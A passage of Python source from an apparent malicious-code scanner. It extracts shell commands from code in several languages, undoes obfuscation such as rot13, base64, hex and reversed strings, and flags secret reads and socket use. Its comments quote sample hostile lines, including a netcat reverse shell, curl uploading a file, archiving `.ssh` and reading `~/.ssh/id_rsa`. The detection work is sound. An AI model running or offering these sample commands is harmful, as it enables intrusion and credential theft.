_CAPISTRANO_SETTING = re.compile(r"""^[ \t]*set\s*\(?\s*:(\w+)\s*,\s*(?:(?:->|lambda|proc)\s*(?:\{|do\b)\s*)?([^\n]+)""", re.M)
_CAPISTRANO_FETCH = re.compile(r"""\bfetch\(\s*:(\w+)\s*(?:,\s*([^()\n]+?))?\s*\)""")
_WORDS_NAMED = re.compile(r"""^[ \t]*([a-z_]\w*)\s*=\s*\[((?:\s*(['"])[^'"\n]*\3\s*,?)+)\]""", re.M)


def sshkit_commands(code: str) -> list[str]:
    """The command lines Capistrano tasks run, locally or on servers: each argument a symbol, a literal (its `#{}`
    filled), literals joined with `+`, `File.join` of them, a setting by `fetch` (its default, or what `set` gave it),
    a list of words spread with `*`, or a name given one of these; a name given the home folder is `~`."""
    if not _SSHKIT_CALL.search(code):
        return []
    homes, constants = _home_names(code), _constants(code)
    settings = {m.group(1): m.group(2).strip().rstrip("}").strip() for m in _CAPISTRANO_SETTING.finditer(code)}
    lists = {m.group(1): re.findall(r"""['"]([^'"\n]*)['"]""", m.group(2)) for m in _WORDS_NAMED.finditer(code)}
    assigned = {m.group(1): m.group(2).strip() for m in _HOME_NAME.finditer(code)}

    def value(text: str, depth: int = 0) -> str:
        text = text.strip().removesuffix(")").strip() if text.count(")") > text.count("(") else text.strip()
        if depth > 4:
            return _UNSHOWN
        if m := re.fullmatch(r":(\w+)", text):
            return m.group(1)
        if text in ("File::SEPARATOR", "File::ALT_SEPARATOR") or _HOME_REFERENCE.fullmatch(text) or (
                re.fullmatch(r"ENV\.fetch\([^)]*\)\s*\{\s*Dir\.home\s*\}", text)):
            return "/" if text.startswith("File::") else "~"
        if m := re.fullmatch(r"""(['"])((?:(?!\1).)*)\1""", text):
            return re.sub(r"#\{([^}]*)\}", lambda n: value(n.group(1), depth + 1), m.group(2))
        if "+" in text and (pieces := [t for t in re.split(r"\s*\+\s*", text)]) and len(pieces) > 1:
            return "".join(value(t, depth + 1) for t in pieces)
        if m := re.fullmatch(r"File\.join\((.*)\)", text):
            return "/".join(value(t, depth + 1) for t in _top_level_split(m.group(1)))
        if m := re.fullmatch(r"""\[(.*)\]\.join\(\s*(['"])(.*)\2\s*\)""", text):
            return m.group(3).join(value(t, depth + 1) for t in _top_level_split(m.group(1)))
        if m := _CAPISTRANO_FETCH.fullmatch(text):
            return value(m.group(2) or settings.get(m.group(1), ""), depth + 1) if m.group(2) or m.group(1) in settings \
                else _UNSHOWN
        if m := re.fullmatch(r"""ENV\.fetch\(\s*(['"])\w+\1\s*,\s*(.+)\)""", text):
            return value(m.group(2), depth + 1)
        if re.fullmatch(r"[a-z_]\w*", text):
            return "~" if text in homes else constants.get(text) or (
                value(assigned[text], depth + 1) if text in assigned else _UNSHOWN)
        return _UNSHOWN

    commands = []
    for m in _SSHKIT_CALL.finditer(code):
        words: list[str] = []
        listed = re.split(r"\s+(?:do|if|unless)\b|\s*\{\s*\|", m.group(2))[0].rstrip()
        for argument in _top_level_split(listed.removesuffix(")") if m.group(1) else listed):
            if re.match(r"\w+:\s", argument):
                break  # options of the call (`raise_on_non_zero_exit: false`)
            words += lists.get(argument[1:], [_UNSHOWN]) if argument.startswith("*") else [value(argument)]
        commands.append(" ".join(w if re.fullmatch(r"[\w~/.:=@%+,-]+", w) else shlex.quote(w) for w in words))
    return commands


# Scala's processes: `Seq("curl", "-F", s"f=@${path}", url).!` and `"rm -rf x".!!` run the command they hold.
_SCALA_PROCESS = re.compile(r"""(?:Seq|List)\(\s*((?:s?"[^"\n]*"\s*,\s*)*s?"[^"\n]*")\s*\)\s*\.!!?|s?"([^"\n]+)"\s*\.!!?""")


def scala_processes(code: str) -> list[str]:
    """The command lines Scala code runs as processes."""
    if ".!" not in code:
        return []
    return [shlex.join(re.findall(r'"([^"\n]*)"', m.group(1))) if m.group(1) else m.group(2)
            for m in _SCALA_PROCESS.finditer(code)]


# Jenkins pipeline steps that run a shell (`sh 'make'`, `sh """…"""`, `bat(script: '…')`): the command lines they run.
_PIPELINE_STEP = GuardedPattern(re.compile(
    r"""(?<![\w.$])(?:sh|bat|powershell|pwsh)\s*\(?\s*(?:script\s*:\s*)?('\'\'|\"\"\"|'|")((?:(?!\1)[^\\]|\\.)*?)\1""", re.S))
# A Groovy variable given the home folder (`def root = System.getProperty('user.home')`).
_GROOVY_HOME = re.compile(r"""\bdef\s+(\w+)\s*=\s*(?:System\.getProperty\(\s*['"]user\.home['"]\s*\)|"""
                          r"""System\.getenv\(\s*['"](?:HOME|USERPROFILE)['"]\s*\)|env\.HOME\b)""")


def pipeline_steps(code: str) -> list[str]:
    """The command lines of a pipeline's shell steps, `\\$` read as `$` and a `${name}` that holds the home folder as
    `$HOME`."""
    homes = set(_GROOVY_HOME.findall(code))
    steps = []
    for m in _PIPELINE_STEP.finditer(code):
        body = m.group(2).replace("\\$", "$")
        steps.append(re.sub(r"\$\{(\w+)\}", lambda n: "$HOME" if n.group(1) in homes else n.group(0), body))
    return steps


def _quoted_sequence(m: re.Match, made: list[str]) -> str:
    """A `_JOINED_SEQUENCE` match as the one literal it makes, noted in `made`."""
    made.append(m.group(2).join(re.findall(r'"([^"]*)"', m.group(1))))
    return f'"{made[-1]}"'


def _adjacent_joined(code: str) -> str:
    """Python's adjacent literals as one (`("ae" "gis")` is `"aegis"`), without the parentheses left around it."""
    joined = code
    while _ADJACENT_LITERALS.search(joined):
        joined = _ADJACENT_LITERALS.sub(r"\1\2\3", joined)
    return code if joined == code else _PARENTHESIZED_LITERAL.sub(r"\1", joined)


def _environment_defaults(code: str) -> str:
    """Python's `os.environ.get("XDG_DATA_HOME", default)` and `os.getenv(NAME, default)` written as
    `(os.environ.get(NAME) or default)`, Ruby's `ENV.fetch(NAME, default)` as the default: the default, which the code
    uses where the variable is not set, stands alone."""
    code = _calls_rewritten(code, _ENVIRONMENT_DEFAULT, lambda m, rest: f"(os.{m.group(1)}({m.group(2)}) or {rest})")
    if "ENV.fetch(" in code:
        code = _calls_rewritten(code, _RUBY_ENVIRONMENT_DEFAULT, lambda m, rest: rest)
    return code


def _calls_rewritten(code: str, call: re.Pattern, rewrite) -> str:
    """The code with each call `call` finds (up to its last argument's start) replaced by `rewrite(match, the rest of
    its arguments)`; a call left open ends the rewriting."""
    while m := call.search(code):
        end = closing(code, m.end(), "()")
        if end == len(code):
            break
        code = code[:m.start()] + rewrite(m, code[m.end():end]) + code[end + 1:]
    return code


# A list of literals given a name, joined with nothing between them where the name is used (`seg = ['cu', 'rl'];
# … seg.join('')`, `''.join(seg)`).
_LITERAL_LIST = re.compile(r"""\b([A-Za-z_$][\w$]*)\s*:?=\s*[\[(]\s*((?:['"][^'"\n]*['"]\s*,\s*)+['"][^'"\n]*['"])\s*,?\s*[\])]""")


# PHP's `implode(' | ', self::PARTS)` of a constant or variable given a list of literals, or of the list itself.
_PHP_LIST = re.compile(r"""(?:\bconst\s+|\$)(\w+)\s*=\s*\[\s*((?:'[^'\n]*'\s*,\s*)*'[^'\n]*')\s*,?\s*\]""")
_IMPLODED = re.compile(r"""\bimplode\(\s*'([^'\n]*)'\s*,\s*(?:(?:self::|static::|\$)(\w+)|\[\s*((?:(?:'[^'\n]*'|[^'\[\],\n]+)\s*,\s*)*"""
                      r"""(?:'[^'\n]*'|[^'\[\],\n]+))\s*,?\s*\])\s*\)""")


_PHP_JOINED_LITERALS = re.compile(r"'([^'\n\\(),;$]*)'\s*\.\s*'([^'\n\\(),;$]*)'")  # no `(),;$`: not across literals


def _imploded(code: str) -> str:
    """The code with each `implode` of literals written as the one literal it makes."""
    if "implode(" not in code:
        return code
    while _PHP_JOINED_LITERALS.search(code):  # `'sha' . 'dow'`, as an item too
        code = _PHP_JOINED_LITERALS.sub(r"'\1\2'", code)
    lists = {m.group(1): m.group(2) for m in _PHP_LIST.finditer(code)}

    def joined(m: re.Match) -> str:
        listed = m.group(3) if m.group(3) is not None else lists.get(m.group(2))
        if listed is None:
            return m.group(0)
        items = [i.strip() for i in re.findall(r"'[^'\n]*'|[^,]+", listed) if i.strip()]
        parts, text = [], ""  # literal runs (with the separators beside them) and the values the code computes
        for n, item in enumerate(items):
            text += m.group(1) if n else ""
            if item.startswith("'"):
                text += item[1:-1]
            else:
                parts += [_quoted(text)] if text else []
                parts.append(item)
                text = ""
        return " . ".join(parts + ([_quoted(text)] if text or not parts else []))

    return _IMPLODED.sub(joined, code)


def _joined_variables(code: str) -> str:
    """The code with each use of a named list of literals joined with nothing between (`seg.join('')`,
    `''.join(seg)`, Rust's `seg.concat()`) written as the one literal it makes, and each spread of one into a call
    (`join(home, ...parts)`) as its literals."""
    if "join(" not in code and ".concat()" not in code:
        return code
    if "..." in code:
        for m in _LITERAL_LIST.finditer(code):
            code = re.sub(rf"(?<=[(,\s])\.\.\.{re.escape(m.group(1))}\b", m.group(2).replace("\\", "\\\\"), code)
    for m in _LITERAL_LIST.finditer(code):
        name, joined = re.escape(m.group(1)), _one_literal(m.group(2)).replace("\\", "\\\\")
        code = re.sub(rf"""(?<![\w$.]){name}\.(?:join\(\s*(['"])\1\s*\)|concat\(\))|(['"])\2\.join\(\s*{name}\s*\)""", joined, code)
    return code


# A `whenever` schedule (`every 1.day do … end`) and the shell commands its cron jobs run (`command '…'`).
_WHENEVER_JOB = re.compile(r"^every\s+[^\n]*\bdo\s*(?:\|[^|\n]*\|)?\s*$", re.M)
_WHENEVER_COMMAND = re.compile(r"""^[ \t]+command\s*\(?\s*(['"])((?:(?!\1)[^\\\n]|\\.)+)\1""", re.M)
# A shell handed a name rather than a literal (`std::system(c.c_str())`, `os.system(cmd)`, `shell_exec($cmd)`).
_NAMED_SHELL_CALL = re.compile(r"""(?:\bsystem|\bpopen|\bshell_exec|\bpassthru|\bexec)\s*\(\s*([A-Za-z_$][\w$]*)(?:\.c_str\(\))?\s*[,)]""")
_STRING_CONSTANT = re.compile(r"""^[ \t]*(?:(?:private|internal|local|const|let|var|val|final|string|String|def|static|auto|std::string)\s+|char\s*\*\s*){0,3}([A-Za-z_$][\w$]*)\s*(?::\s*\w+\s*)?:?=\s*"""
                              r"""(['"])([^'"\\\n]{1,300})\2\s*;?[ \t]*(?:#.*|//.*)?$""", re.M)
_TEMPLATE_LITERAL = re.compile(r"`[^`]*`")
_F_STRING = re.compile(r"""\b[fF]([rR]?)(['"])((?:(?!\2).)*)\2""")
# `${name}` or `${"s" + "h"}` inside a template literal.
_TEMPLATE_SLOT = re.compile(r"""\$\{\s*([A-Za-z_$][\w$]*|(?:['"][^'"`]*['"]\s*\+\s*)*['"][^'"`]*['"])\s*\}""")


def _constants(code: str) -> dict[str, str]:
    """The names given one string literal and assigned nowhere else, with that literal's text."""
    assigned: dict[str, list[str]] = {}
    for m in _STRING_CONSTANT.finditer(code):
        assigned.setdefault(m.group(1), []).append(m.group(3))
    return {n: v[0] for n, v in assigned.items() if len(v) == 1 and len(re.findall(rf"(?<![\w$.]){re.escape(n)}\s*(?::\s*\w+\s*)?:?=(?!=)", code)) == 1}


def _with_constants(code: str) -> str:
    """The code with names given one string literal, and used nowhere else as a target, carried into the template
    literals, f-strings and interpolations that use them (`${dl}`, `{host}`, `#{src}`) and into `+` joins;
    `${'s' + 'h'}` is its text."""
    constants = _constants(code)
    if not constants and "${" not in code:
        return code

    def slot_text(m: re.Match) -> str:
        inner = m.group(1)
        if inner in constants:
            return constants[inner]
        return "".join(re.findall(r"""['"]([^'"`]*)['"]""", inner)) if inner[:1] in "'\"" else m.group(0)

    code = _TEMPLATE_LITERAL.sub(lambda m: _TEMPLATE_SLOT.sub(slot_text, m.group(0)), code)
    if constants:
        code = re.sub(r"#\{([A-Za-z_]\w*)\}", lambda m: constants.get(m.group(1), m.group(0)), code)  # Ruby's, Elixir's
        code = _F_STRING.sub(lambda m: m.group(0)[0] + m.group(1) + m.group(2) + re.sub(
            r"\{(?:self\.)?([A-Za-z_]\w*)\}", lambda n: constants.get(n.group(1), n.group(0)), m.group(3)) + m.group(2), code)
        code = _plus_joined(code, constants)
        if php := "|".join(re.escape(n) for n in sorted(constants, key=len, reverse=True) if n.startswith("$")):
            code = re.sub(rf"(?<=\s\.\s)({php})\b(?!\s*[=(\[])|(?<![\w$])({php})\b(?=\s+\.\s)",  # PHP's `.` joins
                          lambda m: _quoted(constants[m.group(1) or m.group(2)]), code)
    return code


def _homes_added(code: str) -> str:
    """The code with a name given the home folder, joined by `+` to literals, written as the literal `"~"`
    (`"tar -C " + home + " .ssh"` with `home = os.environ.get("HOME", "")`), and as `~` in the template literals
    that use it (`${root}/.*`)."""
    homes = _home_names(code)
    if not homes:
        return code
    slot = re.compile(r"\$\{\s*(" + "|".join(re.escape(n) for n in homes) + r")\s*\}")
    code = _TEMPLATE_LITERAL.sub(lambda m: slot.sub("~", m.group(0)), code)
    return _plus_joined(code, {name: "~" for name in homes})


def _plus_joined(code: str, values: dict[str, str]) -> str:
    """The code with each name joined by `+` (or Lua's `..`) to other text written as the literal it stands for."""
    names = "|".join(re.escape(n) for n in sorted(values, key=len, reverse=True))
    return re.sub(rf"(?:(?<=\+)|(?<=\.\.))(\s*)({names})\b(?!\s*[=(\[.])|(?<![\w$.])({names})(?=\s*(?:\+|\.\.))",
                  lambda m: (m.group(1) or "") + _quoted(values[m.group(2) or m.group(3)]), code)


def _normalized_literals(code: str) -> str:
    """The code with Python's normalizing calls around a literal written as the literal."""
    def literal(m: re.Match) -> str:
        opened, closed = m.group(1).count("("), m.group(4).count(")")
        return m.group(0) if closed < opened else m.group(2) + ")" * (closed - opened)
    return _NORMALIZED_LITERAL.sub(literal, code)


# Ruby's value of an environment variable (`ENV["DIR"]`, `ENV.fetch("DIR", "")`, tidied with `.to_s`, `.chomp("/")`).
_RUBY_ENVIRONMENT_VALUE = (r"""ENV(?:\[\s*['"](\w+)['"]\s*\]|\.fetch\(\s*['"](\w+)['"]\s*(?:,\s*(?:''|""|nil)\s*)?\))"""
                           r"""(?:\.to_s|\.strip|\.chomp(?:\(\s*['"][^'"\n]*['"]\s*\))?)*""")
_RUBY_ENVIRONMENT_NAME = re.compile(rf"^[ \t]*(\w+)\s*=\s*{_RUBY_ENVIRONMENT_VALUE}[ \t]*$", re.M)


def _environment_interpolated(code: str) -> str:
    """Ruby code with an environment variable's value interpolated into a string, directly or through a name given it
    once (`"rm -rf #{root}/*"`), written as the shell's `${DIR}`: empty where it is unset."""
    code = re.sub(r"#\{\s*" + _RUBY_ENVIRONMENT_VALUE + r"\s*\}", lambda m: "${" + (m.group(1) or m.group(2)) + "}", code)
    names = {m.group(1): m.group(2) or m.group(3) for m in _RUBY_ENVIRONMENT_NAME.finditer(code)
             if len(re.findall(rf"(?<![\w.]){m.group(1)}\s*=(?!=)", code)) == 1}
    return re.sub(r"#\{\s*(\w+)\s*\}", lambda m: "${" + names[m.group(1)] + "}" if m.group(1) in names else m.group(0),
                  code) if names else code


# Go's names for the user's folders, and the path functions a Go program builds paths from them with.
_GO_USER_FOLDERS = {"os.UserHomeDir()": "~", "os.UserCacheDir()": "~/.cache", "os.UserConfigDir()": "~/.config"}
_GO_ASSIGNMENT = re.compile(r"^[ \t]*(\w+)(?:\s*,\s*\w+)?\s*:?=\s*(.+?)[ \t]*$", re.M)
_GO_REMOVE_ALL = re.compile(r"\bos\.RemoveAll\(")


def _go_path(expression: str, values: dict[str, str]) -> str | None:
    """The path a Go expression of the user's folders, literals, names given one, `filepath.Join` and `filepath.Dir`
    makes; None for any other expression."""
    expression = expression.strip()
    if expression in _GO_USER_FOLDERS:
        return _GO_USER_FOLDERS[expression]
    if m := re.fullmatch(r'"([^"\\\n]*)"', expression):
        return m.group(1)
    if re.fullmatch(r"\w+", expression):
        return values.get(expression)
    if (m := re.fullmatch(r"filepath\.(Join|Dir|Clean)\((.*)\)", expression, re.S)) and closing(
            expression, len(m.group(0)) - len(m.group(2)) - 1, "()") == len(expression) - 1:
        parts = [_go_path(p, values) for p in _top_level_split(m.group(2))]
        if not parts or None in parts:
            return None
        joined = posixpath.normpath(posixpath.join(*parts))
        return (posixpath.dirname(joined) or ".") if m.group(1) == "Dir" else joined
    return None


def _go_paths_written_out(code: str) -> str:
    """Go code with the path `os.RemoveAll(…)` is given written as a literal, where it is built from the user's
    folders (`filepath.Dir(filepath.Dir(scratch))` with `scratch := filepath.Join(cache, "x")` and
    `cache, _ := os.UserCacheDir()`)."""
    values: dict[str, str] = {}
    for m in _GO_ASSIGNMENT.finditer(code):
        if (path := _go_path(m.group(2), values)) is not None:
            values[m.group(1)] = path
    out, last = [], 0
    for m in _GO_REMOVE_ALL.finditer(code):
        end = closing(code, m.end(), "()")
        if (path := _go_path(code[m.end():end], values)) is not None:
            out += [code[last:m.end()], f'"{path}"']
            last = end
    return "".join(out) + code[last:]


# A function's definition, and what in the text after it reverses a sequence: Go's swap of two ends
# (`r[i], r[j] = r[j], r[i]`), `[::-1]`, `.reverse()`, `std::reverse`, Rust's `.rev()`, PHP's `strrev`.
_FUNCTION_DEFINITION = re.compile(r"\b(?:func|def|function|fn)\s+(\w+)\s*\(")
_REVERSES = re.compile(r"(\w+)\[(\w+)\],\s*\1\[(\w+)\]\s*=\s*\1\[\3\],\s*\1\[\2\]|\[::-1\]|\.reverse\(\)|"
                       r"std::reverse\(|\.rev\(\)|\bstrrev\(")


def _reversing_functions(code: str) -> set[str]:
    """The functions whose short bodies (before the next definition) reverse what they are given."""
    starts = [(m.end(), m.group(1)) for m in _FUNCTION_DEFINITION.finditer(code)]
    ends = [start for start, _ in starts[1:]] + [len(code)] * bool(starts)
    return {name for (start, name), end in zip(starts, ends, strict=True)
            if _REVERSES.search(code[start:min(start + 300, end)])}


def _literals_reversed(code: str, names: set[str]) -> str:
    """The literals the code gives these names (`std::string c = "hs | ..."`, `c = 'hs'`) written as the names hold
    them once the code reverses them in place."""
    pattern = re.compile(r"""\b(""" + "|".join(map(re.escape, names)) + r""")(\s*=\s*|\s*[({]\s*)(['"])([^'"\n]*)\3""")
    return pattern.sub(lambda m: m.group(1) + m.group(2) + m.group(3) + m.group(4)[::-1] + m.group(3), code)


def _quoted(text: str) -> str:
    return "'" + text + "'" if "'" not in text else '"' + text + '"'


# A program and its arguments given as an array: `spawn('nc', [h, p, '-e', '/bin/bash'])`, `execFile(…)`,
# `subprocess.run(['rm', '-rf', path])`; a word the code computes is written as `_UNSHOWN`.
_UNSHOWN = "ARG"
_ARGV_CALL = re.compile(r"""(?:\b(?:spawn|spawnSync|execFile|execFileSync|execa|execaSync|Popen|check_call|check_output|IO\.popen|"""
                        r"""System\.cmd|Process\.run|Process\.start|new\s+Process|OS\.execute|OS\.create_process|"""
                        r"""OS\.execute_with_pipe|"""
                        r"""execv|execvp)|(?:subprocess\.|(?<![\w.]))(?:run|call))\s*\(\s*"""
                        r"""(?:(['"])([\w./-]+)\1\s*,\s*)?\[([^\[\]]*)\]""")


# Java's and Kotlin's `ProcessBuilder("nc", host, "9001")` and Go's `exec.Command("scp", src, dest)`: words as arguments.
_VARARGS_CALL = re.compile(r"""\b(?:ProcessBuilder|exec\.Command|exec\.CommandContext\(\s*\w+\s*,)\(?\s*"""
                           r"""((?:(?:"(?:[^"\\\n]|\\.)*"|[A-Za-z_]\w*)\s*,\s*)*(?:"(?:[^"\\\n]|\\.)*"|[A-Za-z_]\w*))\s*\)""")


# Ruby's and Perl's `system("dd", "if=/dev/zero", "of=#{dev}", exception: false)`: a program's name, then its
# arguments (literals, names, or expressions the code computes), then perhaps the call's options.
_PROGRAM_WORDS_CALL = GuardedPattern(re.compile(r"""(?<![\w.])(?:system|spawn|exec)\(\s*(?=(['"])[^'"\n]*\1\s*,)"""))


def _program_words(code: str) -> list[str]:
    """Each such call's arguments as a list of words: literals as written, a name as itself, anything else unshown."""
    found = []
    for m in _PROGRAM_WORDS_CALL.finditer(code):
        if (end := closing(code, m.end(), "()")) == len(code):
            continue
        words = []
        for item in _top_level_split(code[m.end():end]):
            if re.match(r"\w+:\s", item):
                break
            words.append(item if re.fullmatch(r"""(['"])[^'"\n]*\1|[a-z_]\w*""", item) else "unshown_")
        found.append(", ".join(words))
    return found


# A list of words given a name and handed to a process call by that name (`cmd = ['nc', h, '9001']; Popen(cmd)`).
_NAMED_WORD_LIST = re.compile(r"""^[ \t]*([A-Za-z_]\w*)\s*=\s*\[([^\[\]]*)\]""", re.M)
_PROCESS_CALL_OF = r"""(?:\b(?:Popen|check_call|check_output|execv|execvp)|(?:subprocess\.|(?<![\w.]))(?:run|call))\s*\(\s*{}\b"""


def _top_level_split(text: str) -> list[str]:
    """Arguments separated by commas outside brackets and quotes."""
    parts, depth, quote, start = [], 0, "", 0
    for i, c in enumerate(text):
        if quote:
            quote = "" if c == quote else quote
        elif c in "'\"":
            quote = c
        elif c in "([{":
            depth += 1
        elif c in ")]}":
            depth -= 1
        elif c == "," and depth == 0:
            parts.append(text[start:i].strip())
            start = i + 1
    return [*parts, text[start:].strip()]


def _argv_commands(code: str) -> list[str]:
    calls = [(m.group(2), m.group(3)) for m in _ARGV_CALL.finditer(code)]
    calls += [(None, m.group(2)) for m in _NAMED_WORD_LIST.finditer(code)
              if re.search(_PROCESS_CALL_OF.format(re.escape(m.group(1))), code)]
    calls += [(None, m.group(1)) for m in _VARARGS_CALL.finditer(code)]
    calls += [(None, listed) for listed in _program_words(code)]
    constants: dict[str, str] | None = None  # found once a word is a name
    commands = []
    for program, listed in calls:
        items = [i.strip() for i in listed.split(",") if i.strip()]
        quoted = [len(i) > 1 and i[0] == i[-1] and i[0] in "'\"" for i in items]
        if constants is None and not all(quoted):
            constants = _constants(code)
        words = [(re.sub(r'\\(["\\])', r"\1", i[1:-1]) if i[0] == '"' else i[1:-1])
                 if literal else "python" if i == "sys.executable"  # its interpreter
                 else (constants or {}).get(i.lstrip("&"), _UNSHOWN) for i, literal in zip(items, quoted, strict=True)]
        words = ([program] if program else []) + words
        if words and words[0] != _UNSHOWN:
            commands.append(shlex.join(words))
    return commands


# Airflow's `BashOperator(bash_command=…)`: a literal, or literals Python joins (`("tar …" " | curl …")`).
_BASH_COMMAND = re.compile(r"""\bbash_command\s*=\s*\(?\s*((?:[rbf]?(['"])(?:(?!\2)[^\\\n]|\\.)*\2\s*)+)""")


def _operator_commands(code: str) -> list[str]:
    return ["".join(m.group(2) for m in re.finditer(r"""[rbf]?(['"])((?:(?!\1)[^\\\n]|\\.)*)\1""", found.group(1)))
            for found in _BASH_COMMAND.finditer(code)]


# Python's name lookups through the socket module (`socket.gethostname()`) and its import open no connection.
_SOCKET_LOOKUP = re.compile(r"\bsocket\.(?:gethostname|getfqdn|gethostbyname\w*|gethostbyaddr)\(|"
                            r"^[ \t]*import[ \t]+(?:[\w.]+[ \t]*,[ \t]*)*socket(?:[ \t]*,[ \t]*[\w.]+)*[ \t]*$", re.M)  # not `as _s`


def _opens_socket(code: str) -> bool:
    return bool(_SOCKET.search(_SOCKET_LOOKUP.sub("", code) if "socket" in code else code)
                or _NET_MODULE.search(code) and ".connect(" in code)


def _added(code: str) -> str:
    """The code with literals joined by `+` (or PHP's ` . `) written as the one literal they make."""
    while _ADDED_LITERALS.search(code):
        code = _ADDED_LITERALS.sub(r'"\2\4"', code)
    return code


# One literal that holds more than the home folder (`'$HOME .ssh'`): a name given it is not the home folder.
_LITERAL_BEYOND_HOME = re.compile(r"""(['"])(?!\s*(?:~|\$HOME|\$\{HOME\})/?\s*\1)[^'"\n]*\1\s*;?""")


# A literal formatted with `%` (Python's and GDScript's `"nc %s 4444" % host`): the name stands as `$name`.
_PERCENT_FORMATTED = re.compile(r"""(['"])([^'"\n]*%[sd][^'"\n]*)\1\s*%\s*([A-Za-z_]\w*)\b(?!\s*[(\[.])""")


def _percent_formatted(m: re.Match) -> str:
    return m.group(1) + re.sub(r"%[sd]", "$" + m.group(3), m.group(2), count=1) + m.group(1)


def _home_names(code: str) -> set[str]:
    """The names the code gives the home folder (`$root = $_SERVER['HOME'] ?? getenv('HOME');`, `var h = …`)."""
    return {m.group(1) for m in _HOME_NAME.finditer(code) if _HOME_REFERENCE.search(m.group(2))
            and not _LITERAL_BEYOND_HOME.fullmatch(m.group(2).strip())}


def _formatted(m: re.Match, homes: set[str]) -> str:
    """A format call as the one literal it makes; a name given the home folder stands as `~`, another as `$name`."""
    values = [literal[1:-1] if literal else "~" if name in homes else "$" + name.lstrip("$").replace(".", "_")
              for literal, _, name in re.findall(r"""((['"])[^'"\n]*\2)|(?:escapeshellarg\(\s*)?([$A-Za-z_][\w.]*)""",
                                                 _PHP_HOME_ARGUMENT.sub("'~'", m.group(3)))]
    filled = re.sub(r"%[-+ 0#]*\d*(?:\.\d+)?[sdvq]", lambda _: values.pop(0) if values else "", m.group(2))
    return m.group(1) + filled.replace(m.group(1), "") + m.group(1)


def _one_literal(literals: str) -> str:
    """Quoted literals (`"ae", "gis"`) as the one literal they make when joined (`"aegis"`)."""
    return '"' + "".join(re.findall(r"""['"]([^'"]*)['"]""", literals)) + '"'


def _command_line(words: str) -> str:
    """Listed words (`"curl", "-fsSL", url`) as the one command line literal they make, a name as a variable."""
    items = re.findall(r"""['"]([^'"\n]*)['"]|([A-Za-z_$][\w$.]*)""", words)
    return '"' + " ".join(literal or "$" + name.replace(".", "_").lstrip("$") for literal, name in items) + '"'


def _joined_path(names: re.Match) -> str:
    """A run of quoted names (`".aws", "credentials"`) as the path they make (`.aws/credentials`)."""
    return "/".join(re.findall(r"""['"]([\w.~/*?-]+)['"]""", names.group(0)))


def _secretish(text: str) -> bool:
    return bool(_SECRET_NAME.search(text) or _BARE_SECRET_NAME.search(text) or _HOME_TOKEN_FILE.search(text) or any(
        is_secret(Path("/joined", _joined_path(m))) for m in _JOINED_NAMES.finditer(text)))


_ASSIGNMENT = re.compile(r"^\s*(?:(?:var|let|const|my|local|our)\s+)?([$@]?[A-Za-z_]\w*)\s*(?:<-|:?=)(?!=)(.*)$|"
                         r"^\s*for\s*\(?\s*(?:my\s+)?([$@]?[A-Za-z_]\w*)\s+in\s+(.*)$", re.M)


def _reads_secret(code: str) -> bool:
    """A read on a line that names a secret (`Path('~/.ssh/id_rsa').read_text()`), or that uses a variable assigned a
    text naming one (one step back)."""
    reads = list(_READS.finditer(code))
    if not reads:
        return False
    secret_names = {m.group(1) or m.group(3) for m in _ASSIGNMENT.finditer(code) if _secretish(m.group(2) or m.group(4))}
    for m in reads:
        start = code.rfind("\n", 0, m.start()) + 1
        line = code[start:m.end() + 200].split("\n", 1)[0]
        if _secretish(line) or secret_names & set(re.findall(r"[$@]?[A-Za-z_]\w*", line)):
            return True
    return False


def _sources_download(code: str) -> bool:
    """Code that loads as code (R `source`, Julia `include`, R `eval(parse(text = readLines(u)))`) a name holding a web
    address, or the file it has just downloaded (`download.file(u, tf); source(tf)`)."""
    loads = r"source|sys\.source|include" + (r"|readLines|url" if re.search(r"\beval\s*\(\s*parse\s*\(", code) else "")
    for m in re.finditer(rf"\b(?:{loads})\(\s*([A-Za-z_.][\w.]*)\s*[,)]", code):
        name = re.escape(m.group(1))
        if re.search(rf"(?<![\w.]){name}\s*(?:<-|=)\s*['\"]https?://", code) or re.search(
                rf"\b(?:download\.file|download|curl_download)\([^,()]+,\s*(?:destfile\s*=\s*)?{name}\s*[,)]", code):
            return True
    return False


def _spelled_out(code: str) -> str:
    """The code with text it spells as printable character codes, hex digits, base64 or rot13 written as the literal
    it spells."""
    code = _ROT13.sub(lambda m: _printable_literal(codecs.encode(m.group(2) or m.group(4), "rot13"), m.group(0)), code)
    if "string(rune(" in code:  # Go's one letter: `string(rune('a'))`, `string(rune(97))`
        code = re.sub(r"\bstring\(\s*rune\(\s*(?:'([ -~])'|(\d{2,3}))\s*\)\s*\)",
                      lambda m: _printable_literal(m.group(1) or chr(int(m.group(2))), m.group(0)), code)
    if "string([]" in code:
        code = _GO_BYTES.sub(lambda m: _printable_literal("".join(
            c[1] if c.startswith("'") else chr(int(c)) for c in re.findall(r"\d+|'[^'\\\n]'", m.group(1))), m.group(0)), code)
    code = _DECODED_CALL.sub(_decoded_call, code)
    code = _RUST_BYTES.sub(lambda m: _printable_literal("".join(chr(int(n, 0)) for n in re.findall(r"0[xX][0-9a-fA-F]+|\d+", m.group(1))),
                                                       m.group(0)), code)
    def literal(m: re.Match) -> str:
        if m.group(11):
            text = _base64_text(m.group(11))
            return _quoted(text) if len(text) > 3 and all(32 <= ord(c) < 127 for c in text) and not (
                "'" in text and '"' in text) else m.group(0)
        text = bytes.fromhex(m.group(9)).decode("latin-1") if m.group(9) else "".join(
            chr(int(n)) for n in re.findall(r"\d+", next(g for g in (m.group(1), m.group(2), m.group(4), m.group(6), m.group(7)) if g)))
        return _printable_literal(text, m.group(0))
    return _SPELLED_TEXT.sub(literal, code)


def _printable_literal(text: str, otherwise: str) -> str:
    """`text` as a literal when it is printable ASCII that one kind of quote can hold; else `otherwise`."""
    return _quoted(text) if all(32 <= ord(c) < 127 for c in text) and not ("'" in text and '"' in text) else otherwise


# Hex decoded two digits at a time: Rust's `u8::from_str_radix(&h[i..i + 2], 16)`, JavaScript's `parseInt(…, 16)`,
# Python's `int(…, 16)`, C's `strtol(…, 16)`, Octave's `sscanf(…, '%2x')`, a hex crate's `hex::decode`.
_HEX_DECODING = re.compile(r"""\bfrom_str_radix\([^()]*(?:\([^()]*\)[^()]*)*,\s*16\s*\)|\bparseInt\([^()]*,\s*16\s*\)|"""
                           r"""\bint\([^()]*,\s*16\s*\)|\bstrto[u]?l\([^()]*,\s*16\s*\)|%2[xX]|\bhex::decode\(""")


def _decodes_hex(code: str) -> bool:
    return any(s in code for s in (", 16)", ",16)", "%2x", "%2X", "hex::decode")) and bool(_HEX_DECODING.search(code))


